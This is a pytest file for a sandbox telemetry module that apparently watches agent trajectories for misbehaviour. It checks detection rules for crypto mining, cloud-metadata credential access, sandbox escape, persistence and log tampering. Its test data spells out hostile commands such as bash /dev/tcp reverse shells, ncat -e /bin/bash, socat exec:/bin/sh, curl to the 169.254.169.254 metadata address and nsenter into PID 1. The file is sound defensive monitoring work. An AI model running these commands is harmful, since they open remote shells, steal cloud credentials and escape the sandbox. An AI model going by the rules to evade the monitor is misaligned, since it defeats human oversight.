import json

import pytest

from rock.telemetry import SafetyPolicy, load_rules
from rock.telemetry.audit import iter_events, select
from rock.telemetry.detectors import ScanDetector, apply_rules
from rock.telemetry.events import Observation


def obs(**fields):
    return Observation(time=fields.pop("time", 1.0), sandbox="rock-x", **fields)


@pytest.fixture(scope="module")
def rules():
    return load_rules()


@pytest.mark.parametrize("argv,category", [
    ("xmrig -o stratum+tcp://pool:3333", "compute.mining"),
    ("ssh -fN -R 8080:localhost:80 me@host", "network.reverse_shell"),
    ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "network.reverse_shell"),
    ("bash -i >& /dev/tcp/127.0.0.1/4242 0>&1", "network.reverse_shell"),
    ("sh -i 5<> /dev/tcp/127.0.0.1/9 0<&5 1>&5", "network.reverse_shell"),
    ("ncat -e /bin/bash host 4444", "network.reverse_shell"),
    ("socat tcp:host:1 exec:/bin/sh", "network.reverse_shell"),
    ("curl http://169.254.169.254/latest/meta-data/", "credential.access"),
    ("nsenter -t 1 -m sh", "sandbox.escape"),
    ("nohup python3 miner.py", "process.persistence"),
    ("history -c", "integrity.tamper"),
])
def test_exec_rules(rules, argv, category):
    events = apply_rules(rules, obs(kind="exec", argv=argv.split(" "), path="/usr/bin/" + argv.split(" ")[0]))
    assert category in {e.category for e in events}


@pytest.mark.parametrize("argv", ["python3 -m pytest -q", "git commit -m 'fix ssh docs'", "gcc -O2 -o a a.c",
                                  "pip install --no-index calc.whl", "ls -la", "grep -rn mount src/"])
def test_benign_commands_match_nothing(rules, argv):
    assert apply_rules(rules, obs(kind="exec", argv=argv.split(" "), path="/usr/bin/x")) == []


def test_connect_rules(rules):
    assert {e.category for e in apply_rules(rules, obs(kind="connect", address="127.0.0.1", port=8000))} == set()
    assert {e.category for e in apply_rules(rules, obs(kind="connect", address="203.0.113.1", port=443))} == \
        {"network.egress"}
    assert "credential.access" in {e.category for e in
                                   apply_rules(rules, obs(kind="connect", address="169.254.169.254", port=80))}
    assert "compute.mining" in {e.category for e in
                                apply_rules(rules, obs(kind="connect", address="203.0.113.7", port=3333))}


def test_loopback_dev_server_ports_and_reverse_shell_ports_are_not_mining(rules):
    for address, port in [("127.0.0.1", 3333), ("::1", 3333), ("127.0.0.1", 5555), ("203.0.113.7", 4444)]:
        assert "compute.mining" not in {e.category for e in apply_rules(rules, obs(kind="connect", address=address,
                                                                                    port=port))}


def test_ptrace_is_not_an_escape_syscall_by_itself(rules):
    assert apply_rules(rules, obs(kind="syscall", syscall="ptrace")) == []
    assert {e.rule for e in apply_rules(rules, obs(kind="syscall", syscall="setns"))} == {"escape-syscall"}


def test_scan_detector_fires_once_per_window():
    scan = ScanDetector(window=5, threshold=8)
    fired = [e for port in range(20) for e in scan.observe(obs(kind="connect", address="203.0.113.5", port=port,
                                                              time=port * 0.1))]
    assert len(fired) == 1 and fired[0].category == "network.scan"


def test_scan_detector_leaves_loopback_to_the_sandbox_unless_asked():
    many_servers = [obs(kind="connect", address="127.0.0.1", port=port, time=port * 0.01) for port in range(50)]
    default, asked = ScanDetector(), ScanDetector(loopback=True)
    assert [e for o in many_servers for e in default.observe(o)] == []
    assert len([e for o in many_servers for e in asked.observe(o)]) == 1
    slow = ScanDetector(window=1, threshold=8)
    assert not [e for p in range(20) for e in slow.observe(obs(kind="connect", address="h", port=p, time=p * 1.0))]


def test_user_rules_load_and_bad_rules_name_their_location(tmp_path):
    good = tmp_path / "mine.yaml"
    good.write_text("rules:\n  - {id: no-curl, category: network.egress, kind: exec, argv: '^curl'}\n")
    rules = load_rules(good)
    assert "no-curl" in {r.id for r in rules}
    bad = tmp_path / "bad.yaml"
    bad.write_text("rules:\n  - {id: oops, category: network.nonsense, kind: exec}\n")
    with pytest.raises(ValueError, match=r"bad.yaml: rules\[0\] \(oops\).*unknown category"):
        load_rules(bad)


def test_policy_defaults_and_overrides():
    policy = SafetyPolicy.load()
    mining = policy.verdict([{"category": "compute.mining"}])
    assert mining.terminate and mining.drop and mining.quarantine and mining.penalty == 1.0
    assert not policy.verdict([{"category": "network.egress"}]).terminate
    relaxed = SafetyPolicy.load(overrides={"compute.mining": {"quarantine": False}})
    assert not relaxed.verdict([{"category": "compute.mining"}]).quarantine
    with pytest.raises(ValueError, match="unknown categories"):
        SafetyPolicy.load(overrides={"made.up": {"penalty": 1}})


def test_audit_reads_events_from_trajectories(tmp_path):
    trajectory = {"id": "t1", "task_id": "task", "turns": [
        {"index": 0, "commands": [{"id": 3, "sandbox": "rock-a", "command": "xmrig -o x"}],
         "events": [{"category": "compute.mining", "severity": "critical", "rule": "miner-binary",
                     "message": "exec xmrig", "sandbox": "rock-a", "command_record": 3}]},
        {"index": 1, "commands": [], "events": []}]}
    (tmp_path / "trajectories").mkdir()
    (tmp_path / "trajectories" / "step_1.jsonl").write_text(json.dumps(trajectory) + "\n")
    events = select(iter_events(tmp_path), category="compute")
    assert len(events) == 1 and events[0]["turn"] == 0 and events[0]["command"] == "xmrig -o x"
    assert select(iter_events(tmp_path), min_severity="critical") and not select(iter_events(tmp_path), "network")


def test_a_shell_connecting_out_is_a_reverse_shell_but_not_to_loopback(rules):
    out = apply_rules(rules, obs(kind="connect", address="203.0.113.10", port=4444, comm="bash"))
    assert {e.rule for e in out} == {"shell-connect", "egress-attempt"}
    assert apply_rules(rules, obs(kind="connect", address="127.0.0.1", port=8000, comm="bash")) == []
